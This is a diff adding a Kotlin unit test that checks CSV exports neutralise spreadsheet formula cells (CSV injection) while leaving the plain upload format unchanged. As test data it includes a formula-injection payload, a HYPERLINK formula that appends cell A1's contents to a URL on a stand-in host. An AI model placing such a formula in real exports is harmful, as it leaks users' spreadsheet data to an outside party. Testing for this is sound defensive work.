@@ -116,6 +116,18 @@ class ExportTest {
     }
 
     @Test
+    fun csv_forSpreadsheet_neutralisesFormulaCells_plainFormUnchanged() {
+        val row = ResponseRows.of(protocol, session(0))[0].copy(text = "=HYPERLINK(\"http://x/?\"&A1,\"go\")", sticker = "@SUM(1)", question = "-2+3", responseTimeMillis = null)
+        val line = ResponseCsv.write(listOf(row), forSpreadsheet = true).split("\r\n")[1]
+        assertEquals(
+            "hapticon-icons,1,processing,P000-A,0,icons,1,1,stroke,stroke,\"'=HYPERLINK(\"\"http://x/?\"\"&A1,\"\"go\"\")\",'@SUM(1),'-2+3,2,,${row.iconPresses},${row.answeredAtMillis}",
+            line,
+        )
+        assertEquals(listOf(row), ResponseCsv.read(ResponseCsv.write(listOf(row)))) // the plain form (uploads) is untouched
+        assertEquals(listOf("-1", "+2.5e3", "'+", "'\tx", "'\rx", "a=b", ""), listOf("-1", "+2.5e3", "+", "\tx", "\rx", "a=b", "").map(CsvInjection::neutralise))
+    }
+
+    @Test
     fun csv_envelopeModel_namesTheModelTheProtocolPlayed() {
         val paper = protocol.copy(envelopeModel = org.hapticon.core.render.EnvelopeModel.PAPER)
         val processingRows = ResponseRows.of(protocol, session(0))
